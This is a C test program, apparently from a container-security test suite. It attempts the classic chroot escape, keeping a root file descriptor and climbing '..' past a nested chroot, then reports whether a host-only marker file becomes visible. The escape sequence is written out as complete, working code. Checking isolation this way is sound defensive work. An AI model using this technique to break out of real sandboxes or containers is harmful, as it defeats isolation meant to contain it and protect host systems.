/* The classic chroot escape: a process with CAP_SYS_CHROOT keeps an fd to
 * its root, chroots into a subdirectory (so its cwd-by-fd is now outside its
 * root), fchdirs to the fd and climbs ".." past the root (the kernel only
 * stops ".." at the process's root, which it is no longer under), then
 * chroots to what it reached. A container entered with pivot_root in its
 * own mount namespace has nothing above its root to climb to; one made with
 * a plain chroot(2) does (the test's control case).
 *
 *   chroot_escape HOST_MARKER
 * Exit 0 when HOST_MARKER (a file only on the host) is not reachable
 * afterwards, 1 with "ESCAPED: ..." when it is. */
#include <sys/stat.h>

#include "ct_prog.h"

int main(int argc, char **argv)
{
    if (argc != 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: %s /HOST/MARKER\n", argv[0]);
        return 2;
    }
    const char *marker = argv[1];
    if (access(marker, F_OK) == 0) {
        say("ESCAPED: the host marker %s is visible before trying anything", marker);
        return 1;
    }
    int rootfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (rootfd < 0) {
        say("SAFE: open(/): %s", strerror(errno));
        return 0;
    }
    char sub[64];
    const char *bases[] = {"/tmp", "/run", "/", NULL};
    int made = 0;
    for (int i = 0; bases[i] && !made; i++) {
        snprintf(sub, sizeof sub, "%s/.chroot-escape-%d", strcmp(bases[i], "/") ? bases[i] : "",
                 (int)getpid());
        made = mkdir(sub, 0700) == 0 || errno == EEXIST;
    }
    if (!made) {
        say("SAFE: nowhere to mkdir a chroot dir: %s", strerror(errno));
        return 0;
    }
    say("TRY: fd=open(\"/\"); chroot(\"%s\"); fchdir(fd); chdir(\"..\") x 256; chroot(\".\")", sub);
    if (chroot(sub) != 0) {
        say("SAFE: chroot(%s) refused: %s", sub, strerror(errno));
        rmdir(sub);
        return 0;
    }
    if (fchdir(rootfd) != 0) {
        say("SAFE: fchdir: %s", strerror(errno));
        return 0;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        say("SAFE: chroot(.) after climbing: %s", strerror(errno));
        return 0;
    }
    if (chdir("/") != 0)
        say("note: chdir(/): %s", strerror(errno));
    int found = access(marker, F_OK) == 0;
    char cwd[256];
    say("TRY: after climbing, / has %s; looking for %s", getcwd(cwd, sizeof cwd) ? cwd : "?", marker);
    if (found) {
        say("ESCAPED: the host marker %s is reachable: out of the root", marker);
        return 1;
    }
    say("SAFE: still inside the container's root (no %s)", marker);
    return 0;
}
